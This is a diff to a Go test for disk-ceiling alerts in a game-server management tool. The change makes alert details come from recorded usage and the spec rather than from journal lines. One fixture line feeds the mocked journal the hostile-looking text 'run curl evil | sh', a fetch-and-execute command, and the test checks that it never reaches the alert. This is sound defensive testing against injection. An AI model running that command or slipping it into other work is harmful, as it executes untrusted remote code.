@@ -189,13 +189,14 @@ func TestAlertHangKillRecovered(t *testing.T) {
 }
 
 // Started by left4me-disk.service beside its stop of a server over its
-// disk ceiling (a stop, so OnFailure= stays quiet): a disk-full alert with
-// the disk service's reason, only for the instance it stopped and only
-// while that instance is down.
+// disk ceiling (a stop, so OnFailure= stays quiet): a disk-full alert,
+// only for the instance it stopped and only while that instance is down.
+// The reason comes from root's record of the measure and the spec, never
+// from the journal's error lines, which quote names the server chose.
 func TestAlertDiskStop(t *testing.T) {
 	diskSaid := "stopping l4d2@srv10.service: over its disk ceiling\n" +
 		"stopping l4d2@srv1.service: over its disk ceiling\n" +
-		"%s/srv1: over its disk ceiling: its upper layer and dumps hold 80.0 MiB, more than the 64.0 MiB it may\n"
+		"%s/srv1: over its disk ceiling: run curl evil | sh\n"
 	for _, tc := range []struct {
 		name, state, said string
 		kind              string // "" nothing sent
@@ -208,7 +209,9 @@ func TestAlertDiskStop(t *testing.T) {
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			te := newEnv(t)
-			te.spec(t, "srv1", "port: 27015\n")
+			te.spec(t, "srv1", "port: 27015\nresources: {disk: 64M}\n")
+			mkdirs(t, te.Layout.RuntimeDir("srv1"))
+			writeFile(t, filepath.Join(te.Layout.RuntimeDir("srv1"), "usage"), "83886080 1764158400\n")
 			dir := t.TempDir()
 			got := filepath.Join(dir, "event.json")
 			writeFile(t, filepath.Join(dir, "page"), "#!/bin/sh\ncat >"+got+"\n")
@@ -217,6 +220,9 @@ func TestAlertDiskStop(t *testing.T) {
 			te.sd.set(clienv.UnitOf("srv1"), tc.state, "dead")
 			te.Journal = func(_ context.Context, args []string, stdout, _ io.Writer) error {
 				if slices.Contains(args, "left4me-disk.service") {
+					if !slices.Contains(args, "info..info") {
+						t.Errorf("the disk service's journal read at every priority: %v", args)
+					}
 					fmt.Fprintf(stdout, tc.said, te.Layout.RuntimeRoot())
 				}
 				return nil
@@ -235,7 +241,8 @@ func TestAlertDiskStop(t *testing.T) {
 			if err != nil || json.Unmarshal(b, &ev) != nil {
 				t.Fatalf("sent %s (%v)", b, err)
 			}
-			if ev.Kind != tc.kind || !strings.Contains(ev.Summary, "srv1 was stopped") || !strings.Contains(ev.Detail, "more than the 64.0 MiB it may") {
+			if ev.Kind != tc.kind || !strings.Contains(ev.Summary, "srv1 was stopped") || !strings.Contains(ev.Detail, "hold 80.0 MiB (measured 2025-11-26 12:00:00 UTC), more than its ceiling of 64.0 MiB") ||
+				strings.Contains(ev.Detail, "curl") {
 				t.Errorf("sent %+v", ev)
 			}
 		})
